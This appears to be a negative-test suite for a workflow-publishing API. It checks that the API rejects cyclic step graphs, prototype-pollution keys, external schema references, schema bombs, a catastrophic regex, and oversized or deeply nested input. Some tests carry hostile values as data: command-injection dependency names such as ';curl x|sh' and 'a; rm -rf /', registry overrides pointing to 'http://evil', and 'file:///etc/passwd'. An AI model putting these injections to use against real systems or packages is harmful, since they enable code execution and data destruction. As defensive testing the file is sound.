import net from "node:net";
import { each, postText, type Row, type Scene, type Seen } from "./row.js";

type Definition = Record<string, unknown>;

const step = (key: string, more: Definition = {}) => ({ key, script: "x", ...more });
const put = ({ api }: Scene, definition: unknown) => api.put("/v1/workflows/odd", definition);
const withSchema = (paramsSchema: unknown) => ({ inputSpec: { version: 2, paramsSchema }, steps: [step("a")] });

/** Refused within the time that the row allows. */
async function within(ms: number, send: () => Promise<Seen>): Promise<Seen> {
  const began = performance.now();
  const answer = await send();
  return performance.now() - began <= ms ? answer : { status: 0, text: `{"took":"${performance.now() - began} ms"}` };
}

/** The schema of fact M8: 1.5 KB whose branches double 24 times. */
function bomb(): unknown {
  const definitions = Array.from({ length: 24 }, (_, i) => [
    `d${i}`,
    { anyOf: [{ $ref: `#/$defs/d${i + 1}` }, { $ref: `#/$defs/d${i + 1}` }] },
  ]);
  return {
    type: "object",
    $defs: { ...Object.fromEntries(definitions), d24: { type: "string" } },
    properties: { p: { $ref: "#/$defs/d0" } },
  };
}

/** A definition whose schema is nested so deep that JSON.stringify could not write it. */
function nested(levels: number): string {
  const schema = `${'{"type":"object","properties":{"a":'.repeat(levels)}{}${"}}".repeat(levels)}`;
  return `{"inputSpec":{"version":2,"paramsSchema":${schema}},"steps":[{"key":"a","script":"x"}]}`;
}

export const workflowRows: readonly Row[] = [
  {
    id: "B034",
    what: "steps that do not make a graph",
    status: [422],
    send: (scene) => {
      const odd = [
        [step("a", { deps: ["b"] }), step("b", { deps: ["a"] })],
        [step("a", { deps: ["a"] })],
        [step("a", { deps: ["ghost"] })],
        [step("a"), step("a")],
        [],
        Array.from({ length: 10_001 }, (_, i) => step(`s${i}`)),
      ];
      return each(odd, (steps) => within(2_000, () => put(scene, { steps })));
    },
  },
  {
    id: "B035",
    what: "step keys that are names of something else",
    status: [422],
    send: (scene) =>
      each(["__proto__", "constructor", "..", "a/b", "CON", "x".repeat(300), "A", ""], (key) =>
        put(scene, { steps: [step(key)] }),
      ),
  },
  {
    id: "B037",
    what: "a schema that refers to somewhere else; nobody goes there",
    status: [422],
    send: async (scene) => {
      let visits = 0;
      const sink = net.createServer((socket) => socket.destroy(void visits++)).listen(0, "127.0.0.1");
      await new Promise((resolve) => sink.once("listening", resolve));
      const { port } = sink.address() as net.AddressInfo;
      const refs = [`http://127.0.0.1:${port}/a.json`, "file:///etc/passwd", "other.json"];
      const answers = await each(refs, ($ref) =>
        put(scene, withSchema({ type: "object", properties: { p: { $ref } } })),
      );
      sink.close();
      if (visits > 0) throw new Error("somebody went there");
      return answers;
    },
  },
  {
    id: "B038",
    what: "1.5 KB of schema that unfold to millions",
    status: [422],
    send: (scene) => within(4_000, () => put(scene, withSchema(bomb()))),
  },
  {
    id: "B040",
    what: "schemas that are too deep, too wide, too long",
    status: [400, 422],
    send: async (scene) => {
      const wide = Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`p${i}`, { type: "string" }]));
      const long = { type: "string", description: "x".repeat(64 * 1_024 + 1) };
      const headers = { "Content-Type": "application/json" };
      const deep = await within(1_000, () =>
        scene.api.request("PUT", "/v1/workflows/odd", { headers, body: nested(5_000) }),
      );
      const odd = [
        { type: "object", properties: wide },
        { type: "object", properties: { long } },
      ];
      return [deep, ...(await each(odd, (schema) => within(3_000, () => put(scene, withSchema(schema)))))];
    },
  },
  {
    id: "B041",
    what: "params against a pattern that a naive engine would work on for years",
    status: [422],
    send: async (scene) => {
      const schema = { type: "object", properties: { p: { type: "string", pattern: "^(a|a)*$" } } };
      const published = await scene.api.put("/v1/workflows/slow-pattern", withSchema(schema));
      if (published.status === 422) return published;
      return within(2_000, () =>
        scene.api.post("/v1/jobs", { workflow: "slow-pattern", params: { p: `${"a".repeat(40)}!` } }),
      );
    },
  },
  {
    id: "B043",
    what: "params that are nested a hundred thousand deep",
    status: [400],
    send: (scene) =>
      postText(scene, "/v1/jobs", `{"workflow":"hello","params":${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}}`),
  },
  {
    id: "B044",
    what: "defaults that reach for JavaScript's own, are of another type, or huge",
    status: [413, 422],
    send: async (scene) => [
      await scene.api.request("PUT", "/v1/workflows/odd", {
        headers: { "Content-Type": "application/json" },
        body: '{"inputSpec":{"version":2,"paramsSchema":{"type":"object","properties":{"p":{"default":{"__proto__":{"admin":true}}}}}},"steps":[{"key":"a","script":"x"}]}',
      }),
      await put(scene, withSchema({ type: "object", properties: { p: { type: "integer", default: "ten" } } })),
      await put(
        scene,
        withSchema({ type: "object", properties: { p: { type: "string", default: "x".repeat(10_000_000) } } }),
      ),
    ],
  },
  {
    id: "B046",
    what: "variables that are not the user's",
    status: [413, 422],
    send: async ({ api }) => {
      const odd: Definition[] = [
        ...["PATH", "LD_PRELOAD", "NODE_OPTIONS", "MAIA_X", "A=B", "1A", "", "__proto__x y"].map((name) => ({
          [name]: "1",
        })),
        { A: "a\u0000b" },
        { A: "x".repeat(1_000_000) },
        Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`V${i}`, "1"])),
      ];
      const inWorkflow = await each(odd, (env) => api.put("/v1/workflows/odd", { env, steps: [step("a")] }));
      const inEnvironment = await each(odd, (variables) =>
        api.post("/v1/projects/default/environments", { name: "odd", variables }),
      );
      return [...inWorkflow, ...inEnvironment];
    },
  },
  {
    id: "B047",
    what: "a script of 50 MB",
    status: [413],
    send: async (scene) => {
      const verbatim = "#!/bin/sh -eux\r\n\ufeffecho /etc/passwd\r\n";
      await scene.api.put("/v1/workflows/verbatim", { steps: [{ key: "a", runtime: "shell", script: verbatim }] });
      const kept = await scene.api.get("/v1/workflows/verbatim/versions/1");
      if (kept.json.workflowSnap.steps[0].script !== verbatim) throw new Error("the script was changed");
      return put(scene, { steps: [step("a", { script: "x".repeat(50_000_000) })] });
    },
  },
  {
    id: "B049",
    what: "YAML, which only the command line reads",
    status: [415],
    send: ({ api }) =>
      api.request("PUT", "/v1/workflows/odd", {
        headers: { "Content-Type": "application/yaml" },
        body: "a: &a [*a]\nb: !!js/function x",
      }),
  },
  {
    id: "B050",
    what: "dependencies that are commands, options, paths or addresses",
    status: [422],
    send: async (scene) => {
      const names = [";curl x|sh", "$(id)", "--registry=http://evil", "-g", "../x", "a b"];
      const ranges = ["file:/etc", "git+ssh://x/y", "http://x/y.tgz", "npm:alias@1", "*; id", "../x"];
      const npm = [...names.map((name) => ({ [name]: "1.0.0" })), ...ranges.map((range) => ({ left: range }))];
      const many = Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`p${i}`, "1.0.0"]));
      const python = [["--index-url=http://evil"], ["-e ."], ["x @ http://evil/x.whl"], ["../x"], ["a; rm -rf /"]];
      return [
        ...(await each([...npm, many], (map) => put(scene, { dependencies: { npm: map }, steps: [step("a")] }))),
        ...(await each(python, (list) => put(scene, { dependencies: { python: list }, steps: [step("a")] }))),
      ];
    },
  },
  {
    id: "B052",
    what: "a dependency that a public registry could shadow",
    instead:
      "publishing looks nothing up: which registry is asked, and how old a version must be, is decided when it is installed",
    status: [200, 201],
    send: (scene) => put(scene, { dependencies: { npm: { "@internal/secret": "1.0.0" } }, steps: [step("a")] }),
  },
  {
    id: "B053",
    what: "a lockfile from outside",
    instead: "nobody can bring one: Maia resolves and keeps its own",
    status: [422],
    send: (scene) => put(scene, { dependencies: { npm: {}, lock: "evil" }, steps: [step("a")] }),
  },
];
